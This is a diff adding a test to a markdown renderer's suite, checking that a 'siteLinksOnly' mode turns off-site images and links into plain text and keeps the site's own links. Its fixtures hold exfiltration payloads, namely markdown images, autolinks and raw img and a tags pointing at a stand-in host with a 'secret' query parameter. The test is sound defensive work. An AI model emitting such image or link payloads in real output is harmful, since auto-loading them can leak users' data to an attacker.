@@ -330,3 +330,24 @@ describe('links and images', () => {
     expect(screen.queryByText('draft')).toBeNull();
   });
 });
+
+describe('text whose author may have been steered (siteLinksOnly)', () => {
+  it('shows images and links off the site as text with their address, and keeps the site’s own links', async () => {
+    const leak = 'https://evil.example/p?d=secret';
+    const { root } = await renderMarkdown({
+      siteLinksOnly: true,
+      source: [
+        `![pixel](${leak}) [source](${leak}) <${leak}> ${leak}`,
+        `<img src="${leak}"> <a href="${leak}"><img src="${leak}" alt="inner"></a> [away](//evil.example/x)`,
+        '[a card](/cards/c_1) ![stored](/api/files/' + 'a'.repeat(64) + ')',
+      ].join('\n\n'),
+    });
+    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
+      `/api/files/${'a'.repeat(64)}`,
+    ]);
+    expect([...root.querySelectorAll('a')].map((a) => a.getAttribute('href'))).toEqual(['/cards/c_1']);
+    expect(root.textContent).toContain(`pixel (image not shown: ${leak})`);
+    expect(root.textContent).toContain(`source (${leak})`);
+    expect(root.textContent).toContain('away (//evil.example/x)');
+  });
+});
